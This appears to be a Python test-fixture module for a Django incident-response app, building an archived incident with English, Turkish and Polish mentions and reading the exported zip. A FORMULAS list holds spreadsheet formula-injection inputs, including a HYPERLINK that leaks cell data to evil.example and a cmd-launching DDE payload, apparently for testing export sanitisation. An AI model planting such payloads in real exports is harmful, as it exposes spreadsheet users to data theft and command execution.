"""An incident worth archiving: a timeline, an approved draft, a reply, evidence and mentions in three languages."""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from django.contrib.auth.models import User

from incidents.lifecycle.services import incident_acknowledge
from incidents.models import Draft, Evidence, Incident
from incidents.response.services import (
    draft_approve,
    draft_create,
    draft_submit,
    evidence_capture,
    reply_record,
)
from monitoring.models import Mention
from tests.factories import IncidentFactory, MentionFactory

T0 = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
TURKISH = "Bagajım kayboldu, çok kötü hizmet — şikâyet ediyorum! İade istiyorum."
POLISH = "Zażółć gęślą jaźń: Acme Air zgubił mój bagaż, skandal."
# Stranger text that a spreadsheet would run as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1-555-0100 call me",
    "-2+3 is what they owe me",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented =1+1",
    "\rcarriage =1+1",
]


@dataclass
class Archived:
    incident: Incident
    mentions: list[Mention]
    draft: Draft
    evidence: Evidence


def incident_with_everything(*, responder: User, manager: User) -> Archived:
    incident = IncidentFactory(title="Acme Air: bagaj sistemi çöktü", detected_at=T0, first_signal_at=T0)
    texts = ["Acme Air lost my bag, terrible", TURKISH, POLISH, *FORMULAS]
    mentions = [
        MentionFactory(
            incident=incident, watch=incident.watch, source__watch=incident.watch, text=text,
            published_at=T0 - timedelta(minutes=30 - n), language=["en", "tr", "pl"][min(n, 2)],
            author=f"şahin{n}", raw={"id": n, "text": text}, sentiment=-0.75, sentiment_label="negative",
        )
        for n, text in enumerate(texts)
    ]  # fmt: skip
    incident_acknowledge(incident=incident, by=responder)
    draft = draft_create(incident=incident, by=responder, body="Bagajlarınız için üzgünüz.", title="Açıklama",
                         language="tr", kind="holding")  # fmt: skip
    draft_submit(draft=draft, by=responder)
    draft_approve(draft=draft, by=manager)
    reply_record(incident=incident, mention=mentions[1], by=responder, text="Özür dileriz, DM attık.")
    evidence, _ = evidence_capture(incident=incident, mention=mentions[2], by=responder, note="Dowód")
    return Archived(incident=incident, mentions=mentions, draft=draft, evidence=evidence)


def more_mentions(incident: Incident, n: int) -> None:
    source = incident.mentions.first().source
    Mention.objects.bulk_create(
        Mention(source=source, watch=incident.watch, incident=incident, external_id=f"bulk-{incident.pk}-{i}",
                text=f"Mention {i}: Acme Air gecikme", published_at=T0 + timedelta(seconds=i))
        for i in range(n)
    )  # fmt: skip


class Archive:
    """A written archive opened for reading: ``files`` by name inside its folder."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        with zipfile.ZipFile(io.BytesIO(data)) as bundle:
            self.names = [info.filename for info in bundle.infolist()]
            self.files = {name.split("/", 1)[1]: bundle.read(name) for name in self.names}
        self.manifest: dict[str, Any] = json.loads(self.files["manifest.json"])

    def json(self, name: str) -> Any:
        return json.loads(self.files[name].decode("utf-8"))

    def csv_text(self, name: str) -> str:
        return self.files[name].decode("utf-8-sig")
